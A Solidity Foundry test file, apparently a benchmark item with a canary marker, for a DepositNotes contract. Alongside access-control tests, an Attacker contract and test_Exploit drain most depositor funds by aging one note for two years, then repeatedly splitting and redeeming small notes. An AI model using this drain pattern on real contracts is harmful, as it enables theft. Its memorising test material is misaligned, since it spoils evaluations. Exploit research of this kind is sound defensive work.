// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./DepositNotes.sol";

// assay-canary-6b9a2520-f887-4e35-b040-2a807132563f

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Holds one note for two years, then splits it into small ones.
contract Attacker {
    DepositNotes internal notes;
    uint256 internal n;

    constructor(DepositNotes notes_) {
        notes = notes_;
    }

    receive() external payable {}

    function open() external {
        n = notes.open{value: 12 ether}();
    }

    function run() external {
        for (uint256 i = 0; i < 20; ++i) {
            uint256 m = notes.split(n, 0.05 ether);
            if (address(notes).balance < notes.worth(m)) break;
            notes.redeem(m);
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0x96);
    address internal constant BEN = address(0x97);

    DepositNotes internal notes;
    Attacker internal mallory;
    uint256 internal first;
    uint256 internal second;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_700_000_000);
        notes = new DepositNotes(800);
        vm.deal(address(this), 20 ether);
        vm.deal(ANA, 10 ether);
        vm.deal(BEN, 10 ether);
        vm.prank(ANA);
        first = notes.open{value: 10 ether}();
        vm.prank(BEN);
        second = notes.open{value: 6 ether}();
        payable(address(notes)).transfer(5 ether);
        mallory = new Attacker(notes);
        vm.deal(address(mallory), 12 ether);
    }

    function test_Regular() public {
        vm.warp(block.timestamp + 365 days);
        require(notes.worth(first) == 10.8 ether, "a year's interest");
        vm.prank(ANA);
        notes.assign(first, BEN);
        vm.prank(BEN);
        notes.add{value: 2 ether}(first);
        require(notes.worth(first) == 12.8 ether, "added");
        vm.prank(BEN);
        uint256 half = notes.split(first, 6 ether);
        require(notes.worth(half) == 6.4 ether && notes.worth(first) == 6.4 ether, "two halves");
        vm.prank(BEN);
        notes.redeem(half);
        require(BEN.balance == 8.4 ether && notes.total() == 12 ether, "redeemed");
        notes.setClosed(true);
        notes.sweep(1 ether);
        require(address(notes).balance == 15.6 ether, "swept");
        notes.transferOwnership(ANA);
        vm.startPrank(ANA);
        notes.acceptOwnership();
        notes.renounceOwnership();
        vm.stopPrank();
        require(notes.owner() == address(0), "renounced");
    }

    /// What the two depositors can get out.
    function recoverable() public view returns (uint256) {
        uint256 due = 16 ether;
        return address(notes).balance < due ? address(notes).balance : due;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function foreign() internal {
        vm.prank(ANA);
        vm.expectRevert(bytes("Ownable: caller is not the owner"));
    }

    /// A note is its holder's, the rest the owner's.
    function test_RefusesStrangers() public {
        vm.deal(ANA, 5 ether);
        vm.prank(ANA);
        (bool ok, ) = address(notes).call{value: 1}("");
        require(!ok, "the owner pays in");
        foreign();
        notes.setClosed(true);
        foreign();
        notes.sweep(0);
        foreign();
        notes.transferOwnership(ANA);
        foreign();
        notes.renounceOwnership();
        vm.prank(ANA);
        vm.expectRevert(bytes("Ownable2Step: caller is not the new owner"));
        notes.acceptOwnership();
        refuses(ANA, DepositNotes.NotHolder.selector);
        notes.add{value: 1 ether}(second);
        refuses(ANA, DepositNotes.NotHolder.selector);
        notes.assign(second, ANA);
        refuses(ANA, DepositNotes.NotHolder.selector);
        notes.split(second, 1 ether);
        refuses(ANA, DepositNotes.NotHolder.selector);
        notes.redeem(second);
    }

    /// Notes that would be too small, closed books, nobody, and who takes no ether.
    function test_RefusesNotes() public {
        refuses(ANA, DepositNotes.TooSmall.selector);
        notes.split(first, 9.96 ether);
        refuses(ANA, DepositNotes.TooSmall.selector);
        notes.split(first, 0.05 ether - 1);
        refuses(ANA, DepositNotes.NoHolder.selector);
        notes.assign(first, address(0));
        notes.setClosed(true);
        vm.deal(ANA, 1 ether);
        refuses(ANA, DepositNotes.Closed.selector);
        notes.add{value: 1 ether}(first);
        refuses(ANA, DepositNotes.Closed.selector);
        notes.open{value: 1 ether}();
        notes.setClosed(false);
        refuses(ANA, DepositNotes.TooSmall.selector);
        notes.open{value: 0.05 ether - 1}();
        vm.prank(ANA);
        notes.assign(first, address(notes));
        vm.prank(address(notes));
        vm.expectRevert(bytes("Address: unable to send value, recipient may have reverted"));
        notes.redeem(first);
        vm.prank(BEN);
        notes.redeem(second);
        refuses(BEN, DepositNotes.NotHolder.selector);
        notes.redeem(second);
    }

    function test_RefusesOwners() public {
        vm.expectRevert(DepositNotes.LowSurplus.selector);
        notes.sweep(3.72 ether + 1);
        notes.sweep(3.72 ether);
        vm.expectRevert(DepositNotes.BadRate.selector);
        new DepositNotes(2_001);
    }

    function exploit() public {
        mallory.open();
        vm.warp(block.timestamp + 730 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(recoverable() < 2 ether && address(mallory).balance > 28 ether, "depositors can be repaid");
    }

    function target() public view returns (address) {
        return address(notes);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
